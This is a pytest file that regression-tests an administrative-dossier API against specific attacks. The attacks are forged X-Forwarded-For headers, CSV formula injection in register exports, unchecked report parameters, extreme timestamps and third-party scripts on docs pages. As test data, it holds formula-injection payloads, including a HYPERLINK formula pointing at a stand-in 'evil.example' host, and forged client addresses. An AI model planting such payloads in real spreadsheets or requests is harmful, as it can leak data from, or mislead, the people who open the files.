"""Issue 24 (round 3 of the attacker's tries), points 2, 4, 8 and 12 on the API: the answer each
try now gets, on the real stack (the API in-process, real Temporal and PostgreSQL). The console's
points (3, 8, 10) are in tests/console/test_security_round3.py."""

from __future__ import annotations

import argparse
import asyncio
import csv
import io
import re
import uuid
from collections.abc import AsyncIterator
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

import asyncpg
import httpx
import pytest
import uvicorn
from fastapi import FastAPI

from motcua.access.limiter import RateLimiter
from motcua.access.users import create_user
from motcua.cli import app as cli_app
from motcua.config import Settings
from motcua.devstack.procs import free_port
from tests.api.conftest import MakeToken, act, bearer, receipt_body, receive
from tests.api.test_errors import assert_problem
from tests.conftest import PROCEDURE, UNIT

pytestmark = pytest.mark.engine

FORGED = [f"203.0.113.{n}" for n in range(1, 15)]
PASSWORD = "mat-khau-round-3-1"


def _motcua_api_options(monkeypatch: pytest.MonkeyPatch, settings: Settings) -> dict[str, Any]:
    """The keyword arguments `motcua api` hands to uvicorn.run (run is replaced by a recorder)."""
    recorded: dict[str, Any] = {}
    monkeypatch.setattr(uvicorn, "run", lambda app, **kwargs: recorded.update(kwargs))
    assert cli_app._api(argparse.Namespace(host="127.0.0.1", port=0), settings) == 0
    return recorded


@pytest.fixture
async def served(api: FastAPI, monkeypatch: pytest.MonkeyPatch
                 ) -> AsyncIterator[Any]:
    """Serve the session's app over real HTTP with uvicorn configured exactly as `motcua api`
    configures it for the given settings; yields a starter taking the settings."""
    servers: list[tuple[uvicorn.Server, asyncio.Task[None]]] = []

    async def start(settings: Settings) -> str:
        options = _motcua_api_options(monkeypatch, settings)
        options = {k: v for k, v in options.items() if k not in ("factory", "host", "port")}
        port = free_port()
        server = uvicorn.Server(uvicorn.Config(api, host="127.0.0.1", port=port,
                                               lifespan="off", **options))
        servers.append((server, asyncio.create_task(server.serve())))
        for _ in range(200):
            if server.started:
                break
            await asyncio.sleep(0.05)
        assert server.started
        api.state.resources.lookup_limiter = RateLimiter()  # a fresh bucket per server
        return f"http://127.0.0.1:{port}"

    yield start
    for server, task in servers:
        server.should_exit = True
        await task


# --- point 2: X-Forwarded-For is believed only from a configured proxy ---------------------

async def test_forged_forwarded_for_neither_escapes_the_rate_limit_nor_the_audit(
        served: Any, pool: asyncpg.Pool) -> None:
    """With the default settings, fourteen lookups with fourteen forged X-Forwarded-For values
    share one bucket (429 from the 11th, as without the header), and a login's audit row
    holds the TCP peer, not the forged address."""
    base = await served(Settings())
    async with httpx.AsyncClient(base_url=base) as http:
        answers = [(await http.get(f"/v1/public/dossiers/{UNIT}-261126-{n:07d}",
                                   headers={"X-Forwarded-For": ip,
                                            "X-Lookup-Secret": "AAAA-AAAA-AAAA"})).status_code
                   for n, ip in enumerate(FORGED, start=1)]
        assert answers == [404] * 10 + [429] * 4, answers
        name = f"xff-{uuid.uuid4().hex[:6]}"
        await create_user(pool, username=name, password=PASSWORD, roles=["clerk"],
                          unit_code=UNIT)
        form = await http.get("/login")
        token = re.search(r'name="csrf_token" value="([^"]+)"', form.text)
        assert token
        # The session's settings make Secure cookies, which httpx keeps off plain http.
        cookie = f"motcua_csrf_dang_nhap={form.cookies['motcua_csrf_dang_nhap']}"
        answer = await http.post("/login", headers={"X-Forwarded-For": "198.51.100.7",
                                                    "Cookie": cookie},
                                 data={"csrf_token": token[1], "username": name,
                                       "password": PASSWORD, "next": "/"})
        assert answer.status_code == 303
    rows = await pool.fetch("SELECT remote_addr FROM console_logins WHERE username = $1", name)
    assert [r["remote_addr"] for r in rows] == ["127.0.0.1"]


async def test_a_configured_proxy_is_believed(served: Any) -> None:
    """Behind a trusted proxy (MOTCUA_FORWARDED_ALLOW_IPS), each citizen it forwards has a
    bucket of their own: fourteen addresses, no 429."""
    base = await served(Settings(forwarded_allow_ips="127.0.0.1"))
    async with httpx.AsyncClient(base_url=base) as http:
        answers = [(await http.get(f"/v1/public/dossiers/{UNIT}-261126-{n:07d}",
                                   headers={"X-Forwarded-For": ip,
                                            "X-Lookup-Secret": "AAAA-AAAA-AAAA"})).status_code
                   for n, ip in enumerate(FORGED, start=1)]
    assert answers == [404] * 14, answers


# --- point 4: formula injection in exports; unknown units and procedures -------------------

FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x","bấm")', "+1+2", "-3+4", "@SUM(A1:A2)"]
# A unit no other test receives dossiers in (the register lists a unit's every number).
FORMULA_UNIT = "000.26.39.H39"


async def test_register_csv_holds_no_live_formula(http: httpx.AsyncClient,
                                                  make_token: MakeToken) -> None:
    """Applicant names that are formulas come out of the register CSV as text (a leading
    apostrophe); the CSV still parses, numbers stay numbers."""
    clerk = await make_token("clerk", unit=FORMULA_UNIT)
    for name in FORMULA_NAMES:
        await receive(http, clerk, unit_code=FORMULA_UNIT, applicant={"name": name})
    leader = await make_token("leader", unit=FORMULA_UNIT)
    today = datetime.now(ZoneInfo("Asia/Ho_Chi_Minh")).date().isoformat()
    response = await http.get("/v1/reports/register", headers=bearer(leader), params={
        "unit": FORMULA_UNIT, "from": today, "to": today, "format": "csv"})
    assert response.status_code == 200, response.text
    lines = list(csv.DictReader(io.StringIO(response.text)))
    names = [line["applicant_name"] for line in lines]
    # Other tests may receive in the same unit on the same day: ours are there, neutralised,
    # and no cell of any line starts a formula.
    assert all("'" + name in names for name in FORMULA_NAMES), names
    assert not [v for line in lines for v in line.values() if (v or "")[:1] in ("=", "+", "-", "@",
                                                                     "\t", "\r")]
    assert all(line["seq"].isdigit() for line in lines)


async def test_unknown_unit_or_procedure_in_a_report_is_422(http: httpx.AsyncClient,
                                                            dev_token: str) -> None:
    """`unit=` and `procedure=` are echoed into the report files, so only codes of the catalog
    pass: anything else is 422 naming the parameter (SLA, register, what-if, likely-late)."""
    period = {"from": "2026-01-01", "to": "2026-01-31"}
    cases = [("/v1/reports/sla", {**period, "unit": "=1+1", "format": "csv"}, "unit"),
             ("/v1/reports/sla", {**period, "procedure": "@SUM(A1)", "format": "csv"},
              "procedure"),
             ("/v1/reports/sla", {**period, "unit": "000.99.99.H99"}, "unit"),
             ("/v1/reports/register", {**period, "unit": "-3+4", "format": "csv"}, "unit"),
             ("/v1/reports/whatif", {**period, "cut": "10", "unit": "+1"}, "unit"),
             ("/v1/reports/whatif", {**period, "cut": "10", "procedure": "=x"}, "procedure"),
             ("/v1/reports/likely-late", {"unit": "=1"}, "unit")]
    for path, params, field in cases:
        response = await http.get(path, params=params, headers=bearer(dev_token))
        assert assert_problem(response, 422, "invalid-input")["field"] == field, (path, params)
    ok = await http.get("/v1/reports/sla", headers=bearer(dev_token), params={
        **period, "unit": UNIT, "procedure": PROCEDURE, "format": "csv"})
    assert ok.status_code == 200, ok.text


# --- point 8: out-of-range instants are 4xx wherever an instant is read ---------------------

FAR = ["0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59"]


async def test_out_of_range_instants_are_422_everywhere(http: httpx.AsyncClient,
                                                        dev_token: str) -> None:
    """Query filters, receipt and extension bodies, and the what-if report date: an instant
    (or date) whose offset takes it past year 1 or 9999 is a 422 naming the field."""
    code = (await receive(http, dev_token))["code"]
    for instant in FAR:
        for param in ("due_before", "due_after"):
            response = await http.get("/v1/dossiers", params={param: instant},
                                      headers=bearer(dev_token))
            assert assert_problem(response, 422, "invalid-input")["field"] == param
        response = await http.post("/v1/dossiers", headers=bearer(dev_token),
                                   json=receipt_body(original_received_at=instant))
        assert assert_problem(response, 422, "invalid-input")["field"] == \
            "original_received_at"
        response = await act(http, dev_token, code, "extend",
                             {"reason": "Xin lỗi", "new_due_at": instant})
        assert assert_problem(response, 422, "invalid-input")["field"] == "new_due_at"
    for as_of in ("0001-01-01", "9999-12-31"):
        response = await http.get("/v1/reports/whatif", headers=bearer(dev_token), params={
            "from": "2026-01-01", "to": "2026-01-31", "cut": "10", "as_of": as_of})
        assert assert_problem(response, 422, "invalid-input")["field"] == "as_of"


# --- point 12: /docs and /redoc serve their scripts themselves ------------------------------

async def test_docs_load_no_third_party_script(http: httpx.AsyncClient) -> None:
    """Swagger UI and ReDoc pages reference only same-origin assets, which this process
    serves; no CDN (jsdelivr, unpkg) and no Google Fonts anywhere in them."""
    for path, asset_names in (("/docs", {"swagger-ui-bundle.js", "swagger-ui.css"}),
                              ("/redoc", {"redoc.standalone.js"})):
        page = await http.get(path)
        assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
        assert not re.search(r"cdn|jsdelivr|unpkg|googleapis|fastapi\.tiangolo", page.text)
        urls = re.findall(r'(?:src|href)="([^"]+)"', page.text)
        assert urls and all(u.startswith("/docs/assets/") for u in urls), urls
        assert {u.rsplit("/", 1)[1] for u in urls} >= asset_names
        for url in urls:
            asset = await http.get(url)
            assert asset.status_code == 200 and len(asset.content) > 1000, url
    assert '"validatorUrl": null' in (await http.get("/docs")).text
